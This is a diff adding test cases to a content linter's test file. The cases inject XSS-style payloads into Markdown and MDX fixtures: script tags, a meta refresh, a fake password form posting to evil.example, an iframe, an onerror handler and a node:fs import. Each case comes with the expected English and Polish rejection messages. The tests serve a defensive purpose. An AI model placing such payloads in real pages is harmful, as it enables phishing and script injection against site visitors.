@@ -220,6 +220,72 @@ export const badInputs: BadInput[] = [
     ],
   },
   {
+    name: 'raw HTML that runs script or redirects: <script>, <script src> to an uploaded file, <meta http-equiv=refresh>',
+    make: (f) => f.replace(`${story}/pl.md`, 'Zobacz', '<script>alert(1)</script>\n\n<script src="/documents/test-document/test-document.txt"></script>\n\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\nZobacz'),
+    en: [
+      "content/stories/test-story/pl.md:5:1  <script>  the HTML element <script> is not allowed in content → remove it; write Markdown, or use an allowed element such as <abbr>, <sup>, <details>",
+      "content/stories/test-story/pl.md:7:1  <script>  the HTML element <script> is not allowed in content → remove it; write Markdown, or use an allowed element such as <abbr>, <sup>, <details>",
+      "content/stories/test-story/pl.md:9:1  <meta>  the HTML element <meta> is not allowed in content → remove it; write Markdown, or use an allowed element such as <abbr>, <sup>, <details>",
+    ],
+    pl: [
+      "content/stories/test-story/pl.md:5:1  <script>  element HTML <script> jest niedozwolony w treści → usuń go; pisz w Markdownie albo użyj dozwolonego elementu, np. <abbr>, <sup>, <details>",
+      "content/stories/test-story/pl.md:7:1  <script>  element HTML <script> jest niedozwolony w treści → usuń go; pisz w Markdownie albo użyj dozwolonego elementu, np. <abbr>, <sup>, <details>",
+      "content/stories/test-story/pl.md:9:1  <meta>  element HTML <meta> jest niedozwolony w treści → usuń go; pisz w Markdownie albo użyj dozwolonego elementu, np. <abbr>, <sup>, <details>",
+    ],
+  },
+  {
+    name: 'a fake login prompt (<dialog open> with a form) and a frame',
+    make: (f) => f.replace(`${story}/pl.md`, 'Zobacz', '<dialog open><form action="https://evil.example/"><input name="haslo" type="password"></form></dialog>\n\n<iframe src="https://evil.example/"></iframe>\n\nZobacz'),
+    en: [
+      "content/stories/test-story/pl.md:5:1  <dialog>  the HTML element <dialog> is not allowed in content → remove it; write Markdown, or use an allowed element such as <abbr>, <sup>, <details>",
+      "content/stories/test-story/pl.md:7:1  <iframe>  the HTML element <iframe> is not allowed in content → remove it; write Markdown, or use an allowed element such as <abbr>, <sup>, <details>",
+    ],
+    pl: [
+      "content/stories/test-story/pl.md:5:1  <dialog>  element HTML <dialog> jest niedozwolony w treści → usuń go; pisz w Markdownie albo użyj dozwolonego elementu, np. <abbr>, <sup>, <details>",
+      "content/stories/test-story/pl.md:7:1  <iframe>  element HTML <iframe> jest niedozwolony w treści → usuń go; pisz w Markdownie albo użyj dozwolonego elementu, np. <abbr>, <sup>, <details>",
+    ],
+  },
+  {
+    name: 'event handlers, styles and a data: image in Markdown',
+    make: (f) => f.replace(`${story}/pl.md`, 'Zobacz', '<img src="./cover.png" alt="Wykres" onerror="alert(1)"> <span style="position:fixed">x</span>\n\n<style>body{display:none}</style>\n\n![x](data:text/html,hello)\n\nZobacz'),
+    en: [
+      "content/stories/test-story/pl.md:5:37  onerror  the HTML attribute “onerror” is not allowed in content → remove the attribute",
+      "content/stories/test-story/pl.md:5:63  style  the HTML attribute “style” is not allowed in content → remove the attribute",
+      "content/stories/test-story/pl.md:7:1  <style>  the HTML element <style> is not allowed in content → remove it; write Markdown, or use an allowed element such as <abbr>, <sup>, <details>",
+      "content/stories/test-story/pl.md:9:1  —  the address “data:text/html,hello” is not allowed in a link → link with https://, mailto: or a page of this site",
+    ],
+    pl: [
+      "content/stories/test-story/pl.md:5:37  onerror  atrybut HTML „onerror” jest niedozwolony w treści → usuń ten atrybut",
+      "content/stories/test-story/pl.md:5:63  style  atrybut HTML „style” jest niedozwolony w treści → usuń ten atrybut",
+      "content/stories/test-story/pl.md:7:1  <style>  element HTML <style> jest niedozwolony w treści → usuń go; pisz w Markdownie albo użyj dozwolonego elementu, np. <abbr>, <sup>, <details>",
+      "content/stories/test-story/pl.md:9:1  —  adres „data:text/html,hello” jest niedozwolony w linku → linkuj przez https://, mailto: albo do strony tego serwisu",
+    ],
+  },
+  {
+    name: 'MDX that imports Node and runs an expression (a content pull request running code)',
+    make: (f) => f.replace('pages/about/pl.mdx', 'Zobacz', "import { readdirSync } from 'node:fs';\n\n{readdirSync('/').join(', ')}\n\nZobacz"),
+    en: [
+      "content/pages/about/pl.mdx:5:1  import/export  import and export are not allowed in content → remove the line; <SectionLink>, <PartnerCitiesTable>, <A11yValue> work without import",
+      "content/pages/about/pl.mdx:7:1  {…}  a JavaScript expression in { } is not allowed in content → write the text itself; write a literal brace as \\{",
+    ],
+    pl: [
+      "content/pages/about/pl.mdx:5:1  import/export  import i export są niedozwolone w treści → usuń ten wiersz; <SectionLink>, <PartnerCitiesTable>, <A11yValue> działają bez importu",
+      "content/pages/about/pl.mdx:7:1  {…}  wyrażenie JavaScript w { } jest niedozwolone w treści → wpisz sam tekst; nawias klamrowy zapisz jako \\{",
+    ],
+  },
+  {
+    name: 'MDX with a component that is not a content component, and an expression attribute',
+    make: (f) => f.replace('pages/about/pl.mdx', '<SectionLink section="offers">', '<Script src="x" />\n\n<SectionLink section={"offers"}>'),
+    en: [
+      "content/pages/about/pl.mdx:5:8  <Script>  <Script> is not a content component → use one of: <SectionLink>, <PartnerCitiesTable>, <A11yValue>",
+      "content/pages/about/pl.mdx:7:1  section  the attribute “section” holds a JavaScript expression → write the value in quotes: name=\"value\"",
+    ],
+    pl: [
+      "content/pages/about/pl.mdx:5:8  <Script>  <Script> nie jest komponentem treści → użyj jednego z: <SectionLink>, <PartnerCitiesTable>, <A11yValue>",
+      "content/pages/about/pl.mdx:7:1  section  atrybut „section” zawiera wyrażenie JavaScript → wpisz wartość w cudzysłowie: nazwa=\"wartość\"",
+    ],
+  },
+  {
     name: 'an impact figure without a source',
     make: (f) => f.replace(`${story}/story.yaml`, /    source:\n      title: Fixture source\n/, ''),
     en: [
